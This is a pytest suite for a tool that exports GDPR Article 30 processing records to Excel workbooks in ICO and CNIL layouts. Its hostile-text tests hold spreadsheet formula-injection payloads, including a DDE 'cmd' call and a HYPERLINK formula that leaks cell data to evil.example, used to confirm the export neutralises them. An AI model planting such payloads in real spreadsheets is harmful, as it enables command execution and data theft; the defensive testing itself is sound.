"""The Article 30 workbook, read back with independent readers.

python-calamine (a Rust reader that shares no code with openpyxl) reads the values; openpyxl's
reader checks what calamine does not report (fills, frozen panes, autofilter, print set-up,
cell types); LibreOffice, when installed, converts the workbook as a spreadsheet program would.
Profiles are read straight from their YAML here, not through the renderer's loader.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import gc
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import msgspec
import pytest
import yaml
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from bench.synthetic import generate
from ropa.domain import model as m
from ropa.domain.vocabulary import builtin
from ropa.facts import derive
from ropa.graph import RegistryGraph, build_graph
from ropa.input.document import parse_document
from ropa.render import xlsx
from ropa.render.xlsx import (
    ProfileError,
    UnknownOrganisation,
    UnknownProfile,
    WorkbookError,
    load_profile,
    profiles,
    workbook,
)
from ropa.rules import Finding, evaluate

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "softphone-provider.yaml"
PROFILES = ROOT / "exports" / "profiles"
FIXTURES = ROOT / "tests" / "fixtures" / "xlsx"
ON = dt.date(2026, 11, 22)

Rows = list[list[Any]]


# --- helpers ---------------------------------------------------------------------------------


def example_document() -> m.RegistryDocument:
    return parse_document(EXAMPLE.read_bytes(), "yaml")


def judged(document: m.RegistryDocument) -> tuple[RegistryGraph, list[Finding]]:
    graph = build_graph(document, builtin())
    facts = derive(graph, ON)
    return facts, evaluate(facts)


def render(document: m.RegistryDocument, **options: Any) -> bytes:
    """The internal edition unless told otherwise: it holds every column these tests read."""
    graph, findings = judged(document)
    options.setdefault("edition", "internal")
    return workbook(graph, findings, **options)


def sheet_names(data: bytes) -> list[str]:
    return list(CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names)


def rows(data: bytes, sheet: str) -> Rows:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_name(sheet).to_python(skip_empty_area=False)


def profile_yaml(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load((PROFILES / f"{name}.yaml").read_text("utf-8"))
    return loaded


def sheet_yaml(profile: str, name: str) -> dict[str, Any]:
    return next(s for s in profile_yaml(profile)["sheets"] if s["name"] == name)


def headings(profile: str, sheet: str) -> list[str]:
    return [c["heading"] for c in sheet_yaml(profile, sheet)["columns"]]


def column(table: Rows, header_row: int, heading: str) -> int:
    return table[header_row].index(heading)


HEAD = 8
"""Index of the ICO controller sheet's heading row (row 9: contact block, blank, groups)."""


def keyed(table: Rows, head: int, heading: str) -> dict[str, list[Any]]:
    """The table's data rows by the key in its (internal edition) ID column."""
    index = table[head].index(heading)
    return {row[index]: row for row in table[head + 1 :]}


def key_list(table: Rows, head: int, heading: str) -> list[Any]:
    index = table[head].index(heading)
    return [row[index] for row in table[head + 1 :]]


def activities(document: m.RegistryDocument) -> list[m.Activity]:
    return [a for a in document.activities if a.status != m.ActivityStatus.RETIRED]


def replace_activity(document: m.RegistryDocument, key: str, **changes: Any) -> None:
    document.activities = [
        msgspec.structs.replace(a, **changes) if a.key == key else a for a in document.activities
    ]


def with_processor_role(document: m.RegistryDocument) -> m.RegistryDocument:
    """The example, acting also as a processor for two business customers."""
    document = copy.deepcopy(document)
    document.organisations = [
        msgspec.structs.replace(o, role=m.OrganisationRole.BOTH) for o in document.organisations
    ]
    document.processor_records = [
        m.ProcessorRecord(
            key="hosted-pbx-for-nordlicht",
            organisation="sprechwerk",
            controller=m.Contact(
                name="Nordlicht Versicherung AG",
                address="Hafenstraße 1, 20457 Hamburg, Germany",
                email="datenschutz@nordlicht.example",
            ),
            controller_dpo=m.Contact(name="Jan Petersen", email="dpo@nordlicht.example"),
            processing_categories=[
                "Hosting of the customer's PBX",
                "Call recording on the customer's instruction",
            ],
            data_categories=["call_recordings", "call_metadata"],
            data_subjects=["enterprise_users"],
            sub_processors=["helpdesk"],
            transfers=[
                m.Transfer(
                    destination_country="US",
                    mechanism="scc_2021",
                    scc_module=3,
                    tia_reference="TIA-PBX-1",
                )
            ],
            security_measures=["Recordings encrypted per customer", "MFA for administrators"],
            contract=m.Contract(reference="AVV Nordlicht 2025", signed_on=dt.date(2025, 4, 1)),
            last_reviewed=dt.date(2026, 3, 1),
        ),
        m.ProcessorRecord(
            key="sip-trunking-for-hanse",
            organisation="sprechwerk",
            controller=m.Contact(name="Hanse Logistik GmbH", email="privacy@hanse.example"),
            processing_categories=["SIP trunking for the customer's call centre"],
            security_measures=["SIP over TLS"],
        ),
    ]
    return document


# --- fixtures ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def document() -> m.RegistryDocument:
    return example_document()


@pytest.fixture(scope="module")
def ico(document: m.RegistryDocument) -> bytes:
    return render(document, profile="ico", revision=42)


@pytest.fixture(scope="module")
def cnil(document: m.RegistryDocument) -> bytes:
    return render(document, profile="cnil", revision=42)


@pytest.fixture(scope="module")
def controller(ico: bytes) -> Rows:
    return rows(ico, "Controller record")


# --- profiles and sheets --------------------------------------------------------------------


def test_the_profiles_are_the_yaml_files() -> None:
    assert {"ico", "cnil"} <= set(profiles())
    assert profiles() == sorted(p.stem for p in PROFILES.glob("*.yaml"))


def test_ico_sheets_in_order(ico: bytes) -> None:
    expected = [s["name"] for s in profile_yaml("ico")["sheets"] if s.get("when") != "processor"]
    assert sheet_names(ico) == expected
    assert expected == [
        "Notes",
        "Controller record",
        "Transfers",
        "Recipients",
        "Retention",
        "Findings",
        "Lists",
    ]


def test_cnil_sheets_in_order(cnil: bytes, document: m.RegistryDocument) -> None:
    fiches = [f"Fiche {n}" for n in range(1, len(activities(document)) + 1)]
    assert sheet_names(cnil) == ["Registre", *fiches, "Légende", "Listes"]


@pytest.mark.parametrize("profile", ["ico", "cnil"])
def test_headings_follow_the_profile_in_order(
    profile: str, ico: bytes, cnil: bytes, document: m.RegistryDocument
) -> None:
    data = {"ico": ico, "cnil": cnil}[profile]
    tables = [s for s in profile_yaml(profile)["sheets"] if s["kind"] == "table"]
    checked = 0
    for sheet in tables:
        if sheet["name"] not in sheet_names(data):
            continue
        grouped = any(c.get("group") for c in sheet["columns"])
        header_row = (7 if "contact_block" in sheet else 0) + grouped
        table = rows(data, sheet["name"])
        expected = [c["heading"] for c in sheet["columns"] if not c.get("regime")]
        assert table[header_row] == expected, sheet["name"]
        checked += 1
    assert checked >= 1


def test_ico_headings_are_the_ico_wording_in_ico_order() -> None:
    """ICO template headings the registry can fill appear verbatim and in the template's order."""
    ico_order = [
        "Business function",
        "Purpose of processing",
        "Name and contact details of joint controller (if applicable)",
        "Categories of individuals",
        "Categories of personal data",
        "Categories of recipients",
        "Link to contract with processor",
        "Names of third countries or international organisations that personal data are "
        "transferred to (if applicable)",
        "Safeguards for exceptional transfers of personal data to third countries or "
        "international organisations (if applicable)",
        "Retention schedule (if possible)",
        "General description of technical and organisational security measures (if possible)",
        "Article 6 lawful basis for processing personal data",
        "Article 9 condition for processing special category data",
        "Legitimate interests for the processing (if applicable)",
        "Link to record of legitimate interests assessment (if applicable)",
        "Rights available to individuals",
        "Existence of automated decision-making, including profiling (if applicable)",
        "The source of the personal data (if applicable)",
        "Link to record of consent",
        "Location of personal data",
        "Data Protection Impact Assessment required?",
        "Data Protection Impact Assessment progress",
        "Link to Data Protection Impact Assessment",
    ]
    found = headings("ico", "Controller record")
    positions = [found.index(heading) for heading in ico_order]
    assert positions == sorted(positions)


# --- the record sheet ----------------------------------------------------------------------


def test_contact_block(controller: Rows, document: m.RegistryDocument) -> None:
    org = document.organisations[0]
    assert org.contact is not None and org.dpo is not None
    assert controller[0][0] == "Name and contact details of the controller (Article 30(1)(a))"
    assert controller[1][:5] == ["", "Name", "Address", "Email", "Telephone"]
    assert controller[2][:5] == [
        "Controller",
        org.name,
        org.contact.address,
        org.contact.email,
        org.contact.phone,
    ]
    assert controller[3][:5] == [
        "Data protection officer",
        org.dpo.name,
        org.dpo.address,
        org.dpo.email,
        org.dpo.phone,
    ]
    assert controller[4][0] == "Representative (Article 27)"
    assert controller[5][:3] == ["Registration", org.registration_number, "Germany"]
    assert set(controller[6]) == {""}
    assert controller[7][0] == "Article 30 Record of Processing Activities"
    assert controller[HEAD][0] == "Business function"


def test_one_row_per_activity_in_full(controller: Rows, document: m.RegistryDocument) -> None:
    data = controller[HEAD + 1 :]
    assert key_list(controller, HEAD, "Activity ID") == [a.key for a in activities(document)]
    purpose = column(controller, HEAD, "Purpose of processing")
    for row, activity in zip(data, activities(document), strict=True):
        assert row[purpose] == "\n".join(activity.purposes)
        for text in activity.purposes:
            assert text in row[purpose]  # in full, never cut or replaced by a link


def test_several_values_are_on_lines_of_their_own(
    controller: Rows, document: m.RegistryDocument
) -> None:
    row = keyed(controller, HEAD, "Activity ID")["sip-calling"]
    activity = next(a for a in document.activities if a.key == "sip-calling")
    assert row[column(controller, HEAD, "Categories of individuals")] == (
        "App users\nEnterprise users\nCall parties"
    )
    measures = column(
        controller,
        HEAD,
        "General description of technical and organisational security measures (if possible)",
    )
    assert row[measures] == "\n".join(activity.security_measures)
    assert row[column(controller, HEAD, "The source of the personal data (if applicable)")] == (
        "Users' apps (SIP registration and calls)\n"
        "SIP trunk carriers (incoming calls from the public telephone network)"
    )


def test_human_labels_and_iso_dates(controller: Rows) -> None:
    row = keyed(controller, HEAD, "Activity ID")["push-notifications"]
    get = lambda heading: row[column(controller, HEAD, heading)]  # noqa: E731
    assert get("Categories of personal data").startswith("SIP account credentials\n")
    assert get("Article 6 lawful basis for processing personal data") == "Contract (Art 6(1)(b))"
    assert (
        get(
            "Names of third countries or international organisations that personal data are "
            "transferred to (if applicable)"
        )
        == "United States"
    )
    assert get("Transfer mechanism") == (
        "United States: EU-US Data Privacy Framework (Decision 2023/1795)"
    )
    assert get("Last reviewed") == "2026-02-10"
    assert "SIP account credentials: 6 days (P6D) from push instance expiry" in get(
        "Retention schedule (if possible)"
    )
    assert get("Categories of recipients") == (
        "Google LLC (Firebase Cloud Messaging) (processor, United States)\n"
        "Apple Inc. (Apple Push Notification service) (processor, United States)"
    )
    billing = keyed(controller, HEAD, "Activity ID")["account-billing"]
    assert billing[
        column(controller, HEAD, "Article 6 lawful basis for processing personal data")
    ] == (
        "Contract (Art 6(1)(b))\nLegal obligation (Art 6(1)(c)): Abgabenordnung (AO) §147(1) "
        "and (3); see also HGB §257 (DE)"
    )
    joint = billing[
        column(controller, HEAD, "Name and contact details of joint controller (if applicable)")
    ]
    assert joint.startswith("Telvana Partner GmbH (") and "datenschutz@telvana.example" in joint


def test_retired_activities_are_left_out(document: m.RegistryDocument) -> None:
    changed = copy.deepcopy(document)
    replace_activity(changed, "app-analytics", status=m.ActivityStatus.RETIRED)
    table = rows(render(changed), "Controller record")
    keys = key_list(table, HEAD, "Activity ID")
    assert "app-analytics" not in keys
    assert len(keys) == len(activities(document)) - 1


def test_required_columns_are_green_and_the_legend_says_so(ico: bytes) -> None:
    fills = profile_yaml("ico")["fills"]
    book = load_workbook(io.BytesIO(ico))
    ws = book["Controller record"]
    shown = [c for c in sheet_yaml("ico", "Controller record")["columns"] if not c.get("regime")]
    for index, spec in enumerate(shown, 1):
        cell = ws.cell(row=HEAD + 1, column=index)
        assert cell.value == spec["heading"]
        expected = fills["required"] if spec.get("required") else fills["optional"]
        assert cell.fill.fill_type == "solid"
        assert cell.fill.fgColor.rgb.endswith(expected), spec["heading"]
        assert cell.font.bold
    notes = book["Notes"]
    legend = {notes.cell(row=r, column=1).value: notes.cell(row=r, column=1) for r in (3, 4)}
    assert legend["Required"].fill.fgColor.rgb.endswith(fills["required"])
    assert legend["Optional"].fill.fgColor.rgb.endswith(fills["optional"])
    assert "required by Article 30" in notes.cell(row=3, column=2).value


def test_frozen_header_autofilter_widths_and_print_set_up(
    ico: bytes, document: m.RegistryDocument
) -> None:
    book = load_workbook(io.BytesIO(ico))
    ws = book["Controller record"]
    count = len(activities(document))
    columns = [c for c in sheet_yaml("ico", "Controller record")["columns"] if not c.get("regime")]
    last = ws.cell(row=9, column=len(columns)).column_letter
    assert ws.freeze_panes == "C10"
    assert ws.auto_filter.ref == f"A9:{last}{9 + count}"
    assert ws.column_dimensions["D"].width == columns[3]["width"]
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.scale == profile_yaml("ico").get("print_scale", 85)
    assert not ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$8:$9"
    assert ws.print_title_cols == "$A:$B"
    transfers = book["Transfers"]
    assert transfers.freeze_panes == "B2"
    assert transfers.auto_filter.ref.startswith("A1:")
    assert transfers.print_title_rows == "$1:$1"


def test_long_text_wraps_in_tall_rows(ico: bytes) -> None:
    book = load_workbook(io.BytesIO(ico))
    ws = book["Controller record"]
    purpose = ws.cell(row=10, column=2)
    assert len(purpose.value) > 60
    assert purpose.alignment.wrap_text and purpose.alignment.vertical == "top"
    assert ws.cell(row=10, column=1).alignment.wrap_text  # the default format wraps too
    assert ws.row_dimensions[10].height is not None and ws.row_dimensions[10].height > 15


def test_full_text_never_only_a_link(ico: bytes) -> None:
    book = load_workbook(io.BytesIO(ico))
    for ws in book.worksheets:
        assert not ws._hyperlinks
        for row in ws.iter_rows():
            for cell in row:
                assert cell.hyperlink is None


# --- supporting sheets -----------------------------------------------------------------------


def test_transfers_sheet(ico: bytes, document: m.RegistryDocument) -> None:
    table = rows(ico, "Transfers")
    assert table[0] == headings("ico", "Transfers")
    flows = [f.key for f in document.flows if f.transfer is not None]
    ids = table[0].index("Flow IDs")
    grouped = [key for row in table[1:] for key in row[ids].split("\n")]
    assert sorted(grouped) == sorted(flows)  # every transfer flow, in one row per transfer
    trunk = next(row for row in table[1:] if row[ids] == "call-trunk-us")
    get = lambda heading: trunk[table[0].index(heading)]  # noqa: E731
    assert get("Country code") == "US"
    assert get("Country or international organisation") == "United States"
    assert get("Importer role") == "processor"
    assert get("Transfer mechanism") == "Standard contractual clauses (Decision 2021/914)"
    assert get("SCC module") == "Module 2 (controller to processor)"
    assert get("DPF status") == "not certified"
    assert get("DPF checked on") == "2026-01-12"
    assert get("TIA reference") == "TIA-2024-02 Continental Voice Exchange (US)"
    analytics = next(row for row in table[1:] if "analytics-ios" in row[ids].split("\n"))
    assert analytics[table[0].index("Transfer mechanism")] == "Not stated"


def test_recipients_sheet(ico: bytes, document: m.RegistryDocument) -> None:
    table = rows(ico, "Recipients")
    parties = keyed(table, 0, "Party ID")
    assert list(parties) == [p.key for p in document.parties]
    postwave = parties["helpdesk-mail"]
    get = lambda heading: postwave[table[0].index(heading)]  # noqa: E731
    assert get("Role") == "sub-processor"
    assert get("Sub-processor of") == "Ticketline Software Ltd"
    assert get("Country") == "United States"
    assert get("Activities") == "Customer support and troubleshooting with debug logs"
    google = parties["google-fcm"]
    assert google[table[0].index("Contract date")] == "2023-03-14"


def test_retention_sheet_has_a_row_per_activity_and_category(
    ico: bytes, document: m.RegistryDocument
) -> None:
    table = rows(ico, "Retention")
    key = table[0].index("Activity ID")
    for activity in activities(document):
        mine = [row for row in table[1:] if row[key] == activity.key]
        assert len(mine) == len(activity.data_categories), activity.key
    calls = {row[1]: row for row in table[1:] if row[key] == "sip-calling"}
    assert calls["Call metadata (CDRs)"][2] == "6 months (P6M)"
    assert calls["Call media streams"][2] == "Not stated"
    assert calls["Call media streams"][4].startswith("Relayed in memory only")
    logs = [row for row in table[1:] if row[key] == "support-debug-logs"]
    assert all("as long as reasonably necessary" in row[6] for row in logs)


def test_findings_sheet_with_a_waiver(document: m.RegistryDocument) -> None:
    changed = copy.deepcopy(document)
    changed.waivers = [
        m.Waiver(
            key="apns-terms",
            organisation="sprechwerk",
            finding="PROCESSOR-WITHOUT-DPA@party:apple-apns",
            reason="Apple offers no negotiable terms; the developer agreement is relied on.",
            accepted_by="Dr. Lena Hartmann",
            accepted_on=dt.date(2026, 6, 1),
            expires_on=dt.date(2027, 6, 1),
        )
    ]
    graph, findings = judged(changed)
    table = rows(workbook(graph, findings, edition="internal"), "Findings")
    assert table[0] == headings("ico", "Findings")
    assert [row[0] for row in table[1:]] == [f.id for f in findings]
    waived = next(row for row in table[1:] if row[0] == "PROCESSOR-WITHOUT-DPA@party:apple-apns")
    get = lambda heading: waived[table[0].index(heading)]  # noqa: E731
    assert get("Waived") == "Yes"
    assert get("Waiver reason").startswith("Apple offers no negotiable terms")
    assert get("Waiver expiry") == "2027-06-01"
    assert get("Severity") == "error"


def test_lists_and_notes(ico: bytes) -> None:
    lists = rows(ico, "Lists")
    assert lists[0][0] == "Article 6 lawful bases"
    assert "Consent (Art 6(1)(a))" in [row[0] for row in lists]
    assert [row[lists[0].index("Finding severities")] for row in lists[1:4]] == [
        "error",
        "warning",
        "info",
    ]
    notes = {row[0]: row[1] for row in rows(ico, "Notes") if row[0]}
    assert notes["Organisation"] == "Sprechwerk Telefonie GmbH"
    assert notes["Registry revision"] == "42"
    assert notes["Judged on"] == "2026-11-22"
    assert notes["Generated by"].startswith("ropa ")


# --- processor record -------------------------------------------------------------------------


def test_no_processor_sheet_for_a_controller(ico: bytes) -> None:
    assert "Processor record" not in sheet_names(ico)


def test_processor_sheet_for_a_processor(document: m.RegistryDocument) -> None:
    data = render(with_processor_role(document))
    assert sheet_names(data)[:3] == ["Notes", "Controller record", "Processor record"]
    table = rows(data, "Processor record")
    assert table[2][:2] == ["Processor", "Sprechwerk Telefonie GmbH"]
    assert table[7] == headings("ico", "Processor record")
    records = table[8:]
    assert key_list(table, 7, "Record ID") == ["hosted-pbx-for-nordlicht", "sip-trunking-for-hanse"]
    get = lambda heading: records[0][table[7].index(heading)]  # noqa: E731
    assert get("Name and contact details of controller") == (
        "Nordlicht Versicherung AG, Hafenstraße 1, 20457 Hamburg, Germany, "
        "datenschutz@nordlicht.example"
    )
    assert get("Categories of processing carried out on behalf of the controller") == (
        "Hosting of the customer's PBX\nCall recording on the customer's instruction"
    )
    assert (
        get("Sub-processors (name, country, authorisation)") == "Ticketline Software Ltd (Ireland)"
    )
    assert get("Transfer mechanism") == (
        "United States: Standard contractual clauses (Decision 2021/914), "
        "Module 3 (processor to processor)"
    )
    assert get("Link to contract with controller (Article 28(3))") == (
        "AVV Nordlicht 2025 (2025-04-01)"
    )
    cnil = render(with_processor_role(document), profile="cnil")
    assert "Registre sous-traitant" in sheet_names(cnil)


# --- CNIL ----------------------------------------------------------------------------------------


def test_cnil_cover(cnil: bytes, document: m.RegistryDocument) -> None:
    cover = rows(cnil, "Registre")
    org = document.organisations[0]
    assert cover[2][:2] == ["Responsable du traitement", org.name]
    assert cover[3][0] == "Délégué à la protection des données (DPO)"
    assert cover[7] == headings("cnil", "Registre")
    listed = cover[8:]
    assert [row[1] for row in listed] == [a.name for a in activities(document)]
    assert [row[0] for row in listed] == [
        f"Fiche {n}" for n in range(1, len(activities(document)) + 1)
    ]


def fiche(data: bytes, number: int) -> dict[str, str]:
    """Label -> value of a fiche's label lines (first occurrence)."""
    found: dict[str, str] = {}
    for row in rows(data, f"Fiche {number}"):
        if row[0] and len(row) > 1 and row[0] not in found:
            found[row[0]] = row[1]
    return found


def test_cnil_fiche(cnil: bytes, document: m.RegistryDocument) -> None:
    push = fiche(cnil, 1)
    assert push["Fiche n° 1"] == "Push notifications for incoming calls and messages"
    assert push["Nom / sigle"] == "Push notifications for incoming calls and messages"
    assert push["Des données sont-elles transférées hors UE ?"] == "Oui"
    assert push["Pays ou organisations internationales"] == "États-Unis"
    assert push["Sous-traitants"].startswith("Google LLC (Firebase Cloud Messaging)")
    assert push["Organismes externes"] == "Aucun"
    assert push["Destinataires internes"] == "Product (mobile apps) (Head of Mobile Engineering)"
    assert push["Chiffrement des données"].startswith("TLS 1.3 between the app")
    table = rows(cnil, "Fiche 1")
    header = next(i for i, row in enumerate(table) if row[0] == "Catégorie de données")
    assert table[header][:2] == [
        "Catégorie de données",
        "Durée de conservation (ou critères de suppression)",
    ]
    assert table[header + 1][:3] == [
        "Identifiants du compte SIP",
        "6 jours (P6D)",
        "expiration de l'instance push ou désactivation du push",
    ]
    calls = fiche(cnil, 2)
    assert calls["Nom / sigle"] == "SIP calling and call routing"
    call_table = rows(cnil, "Fiche 2")
    media = next(row for row in call_table if row[0] == "Flux multimédias des appels")
    assert media[1] == "Relayed in memory only while the call lasts; never written to disk."
    smart = fiche(
        cnil,
        activities(document).index(
            next(a for a in document.activities if a.key == "smart-contacts")
        )
        + 1,
    )
    assert smart["Des données sont-elles transférées hors UE ?"] == "Non"


# --- hostile text ------------------------------------------------------------------------------

HOSTILE = [
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2",
    "\tx",
    "\rx",
    "a\r\nb",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "\uff1d1+2",  # a full-width equals sign
    "#N/A",
    "📞 Softphone ☎️ 👩🏽‍💻 call",
    "سجل أنشطة المعالجة",
    "רשומת פעילויות עיבוד",
    '<script>alert("x")</script> & \'quotes\' "double" </t></is>',
    "_x0041_ stays literal",
    "  leading and trailing spaces  ",
    "line one\nline two",
    "Ω" + "x" * 10_240,
]


@pytest.fixture(scope="module")
def hostile(document: m.RegistryDocument) -> tuple[m.RegistryDocument, bytes]:
    changed = copy.deepcopy(document)
    template = next(a for a in changed.activities if a.key == "smart-contacts")
    changed.activities += [
        msgspec.structs.replace(
            template,
            key=f"hostile-{index}",
            name=text,
            purposes=[text],
            business_function=text,
            owner=text,
        )
        for index, text in enumerate(HOSTILE)
    ]
    evil = '=HYPERLINK("http://evil.example")'
    changed.organisations = [
        msgspec.structs.replace(o, name=evil, contact=m.Contact(name=evil, email="-@evil.example"))
        for o in changed.organisations
    ]
    changed.parties = [
        msgspec.structs.replace(p, name="@" + p.name) if p.key == "reseller" else p
        for p in changed.parties
    ]
    return changed, render(changed)


def test_hostile_text_comes_back_as_the_same_text(
    hostile: tuple[m.RegistryDocument, bytes],
) -> None:
    _, data = hostile
    table = rows(data, "Controller record")
    by_key = keyed(table, HEAD, "Activity ID")
    name = column(table, HEAD, "Processing activity")
    for index, text in enumerate(HOSTILE):
        row = by_key[f"hostile-{index}"]
        assert row[0] == text, repr(text[:40])
        assert row[1] == text, repr(text[:40])
        assert row[name] == text, repr(text[:40])
    assert table[2][1] == '=HYPERLINK("http://evil.example")'
    recipients = rows(data, "Recipients")
    assert "@Telvana Partner GmbH" in [row[0] for row in recipients]


def test_hostile_text_is_never_a_formula(hostile: tuple[m.RegistryDocument, bytes]) -> None:
    _, data = hostile
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
                assert b't="e"' not in xml, name
    book = load_workbook(io.BytesIO(data))
    ws = book["Controller record"]
    guarded = {f"hostile-{i}" for i, text in enumerate(HOSTILE) if text[0] in "=+-@\t\r\n\uff1d#"}
    assert len(guarded) == 9
    seen = 0
    heads = [cell.value for cell in next(ws.iter_rows(min_row=9, max_row=9))]
    key, name = heads.index("Activity ID"), heads.index("Processing activity")
    for row in ws.iter_rows(min_row=10):
        for cell in (row[0], row[1], row[name]):
            assert cell.data_type == "s", cell.coordinate
            assert bool(cell.quotePrefix) is (row[key].value in guarded), cell.coordinate
        seen += row[key].value in guarded
    assert seen == len(guarded)
    assert ws["B3"].quotePrefix and ws["D3"].quotePrefix  # the organisation's name, its email


def test_text_xml_cannot_hold_is_replaced(document: m.RegistryDocument) -> None:
    changed = copy.deepcopy(document)
    replace_activity(changed, "push-notifications", name="bell\x07 and null\x00 and \ud800")
    table = rows(render(changed), "Controller record")
    assert table[HEAD + 1][column(table, HEAD, "Processing activity")] == (
        "bell\ufffd and null\ufffd and \ufffd"
    )


def test_the_collector_runs_again_once_a_workbook_is_written(
    document: m.RegistryDocument,
) -> None:
    """The workbook pauses the cyclic garbage collector while it writes, and only then."""
    assert gc.isenabled()
    render(document)
    assert gc.isenabled()


def test_overlong_text_is_cut_at_the_cell_limit_and_says_so() -> None:
    text = "x" * 40_000
    cut = xlsx.safe_text(text)
    assert len(cut) <= xlsx.MAX_CELL
    assert cut.startswith("x" * 30_000) and cut.endswith("the cell limit is 32,767]")
    escaped = xlsx.safe_text("\r" * 10_000)  # each CR takes 7 characters once escaped
    assert len(escaped) <= xlsx.MAX_CELL


@pytest.mark.parametrize(
    "text",
    [
        "one line",
        "a list\nof lines",
        "line\r\nbreaks",
        "a\n_x0041_ literal",
        "tab\tand\nline",
        "no-break\u00a0space\nand more",
        "vertical\x0btab\nline",
        "lone \ud800 surrogate\nline",
        "non-character \ufffe\nline",
        "\n\nempty lines\n",
    ],
)
def test_text_left_as_it_is_only_when_escaping_would_not_change_it(text: str) -> None:
    """The quick path for text without an escape gives what the escape pass would give."""
    assert xlsx.safe_text(text) == xlsx._escape(text)


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+2", True),
        ("+1", True),
        ("-2", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("\nx", True),
        ("\uff1d1", True),
        ("#REF!", True),
        ("#1 priority", False),
        ("a=b", False),
        ("Contract (Art 6(1)(b))", False),
        ("", False),
    ],
)
def test_needs_guard(text: str, guarded: bool) -> None:
    assert xlsx.needs_guard(text) is guarded


def test_no_links_macros_or_outside_names(ico: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(ico)) as archive:
        names = archive.namelist()
        assert not [n for n in names if "externalLink" in n or "vba" in n.lower()]
        assert not [n for n in names if n.startswith("xl/worksheets/_rels/")]
        content_types = archive.read("[Content_Types].xml").decode()
        assert "macroEnabled" not in content_types
        book_xml = archive.read("xl/workbook.xml").decode()
    sheets = sheet_names(ico)
    for name, value in re.findall(r'<definedName name="([^"]+)"[^>]*>([^<]*)<', book_xml):
        assert name.startswith("_xlnm."), name
        assert "[" not in value, value
        referenced = re.findall(r"'((?:[^']|'')+)'!|(\b[A-Za-z][\w ]*)!", value)
        for quoted, plain in referenced:
            assert (quoted or plain).replace("''", "'") in sheets, value


# --- determinism -------------------------------------------------------------------------------


def test_same_inputs_give_the_same_bytes(document: m.RegistryDocument, ico: bytes) -> None:
    assert render(document, profile="ico", revision=42) == ico
    assert render(document, profile="cnil") == render(document, profile="cnil")


def test_a_changed_registry_gives_other_bytes(document: m.RegistryDocument, ico: bytes) -> None:
    changed = copy.deepcopy(document)
    replace_activity(changed, "sip-calling", purposes=["Route calls"])
    assert render(changed, profile="ico", revision=42) != ico
    assert render(document, profile="ico", revision=43) != ico


def test_the_container_is_dated_by_the_day_judged(ico: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(ico)) as archive:
        infos = archive.infolist()
        core = archive.read("docProps/core.xml").decode()
    assert {info.date_time for info in infos} == {(2026, 11, 22, 0, 0, 0)}
    assert [info.filename for info in infos][:2] == ["[Content_Types].xml", "_rels/.rels"]
    assert "2026-11-22T00:00:00Z" in core
    properties = ElementTree.fromstring(core)
    assert properties.findtext("{http://purl.org/dc/elements/1.1/}creator") == "ropa"


# --- errors and new profiles -------------------------------------------------------------------


def test_unknown_profile(document: m.RegistryDocument) -> None:
    with pytest.raises(UnknownProfile, match=r"known: .*cnil.*ico"):
        render(document, profile="aepd")
    assert issubclass(UnknownProfile, WorkbookError) and issubclass(WorkbookError, ValueError)


def test_unknown_or_unnamed_organisation(document: m.RegistryDocument) -> None:
    with pytest.raises(UnknownOrganisation, match=r"no organisation 'acme'.*sprechwerk"):
        render(document, organisation="acme")
    several = generate(40, organisations=2)
    graph = build_graph(several, builtin())
    with pytest.raises(UnknownOrganisation, match="2 organisations"):
        workbook(derive(graph, ON), [])


def test_one_organisation_of_several() -> None:
    several = generate(40, organisations=2)
    graph = build_graph(several, builtin())
    facts = derive(graph, ON)
    findings = evaluate(facts)
    data = workbook(facts, findings, organisation="org-001", edition="internal")
    keys = key_list(rows(data, "Controller record"), HEAD, "Activity ID")
    expected = [
        a.key
        for a in several.activities
        if a.organisation == "org-001" and a.status != m.ActivityStatus.RETIRED
    ]
    assert keys == expected and keys
    ids = [row[0] for row in rows(data, "Findings")[1:]]
    assert ids == [f.id for f in findings if f.organisation == "org-001"]
    assert len(ids) < len(findings)


def test_a_new_profile_is_a_new_yaml_file(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, document: m.RegistryDocument
) -> None:
    for source in (*PROFILES.glob("*.yaml"), FIXTURES / "apd-minimal.yaml"):
        shutil.copy(source, tmp_path / source.name)
    monkeypatch.setenv("ROPA_PROFILES_DIR", str(tmp_path))
    assert "apd-minimal" in profiles()
    data = render(document, profile="apd-minimal")
    assert sheet_names(data) == ["Register", "Bewaartermijnen"]
    register = rows(data, "Register")
    assert register[7][:3] == ["Naam van de verwerking", "Doeleinden", "Doorgifte buiten de EER"]
    assert register[8][2] == "Ja"
    assert rows(data, "Bewaartermijnen")[1][2] == "6 days (P6D)"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda p: p["sheets"][1]["columns"][0].update(source="shoe_size"), "unknown source"),
        (lambda p: p["sheets"][1].update(name="A sheet name far too long for Excel"), "31"),
        (lambda p: p["sheets"][1].update(rows="everything"), "unknown rows"),
        (lambda p: p["sheets"][0].update(kind="chart"), "kind"),
        (lambda p: p["sheets"][1]["columns"][0].update(colour="red"), "colour"),
    ],
)
def test_a_broken_profile_is_refused_before_rendering(
    tmp_path: Path, change: Any, message: str
) -> None:
    raw = profile_yaml("ico")
    change(raw)
    path = tmp_path / "broken.yaml"
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ProfileError, match=message):
        load_profile(path)


def test_a_fiche_needs_its_number(tmp_path: Path) -> None:
    raw = profile_yaml("cnil")
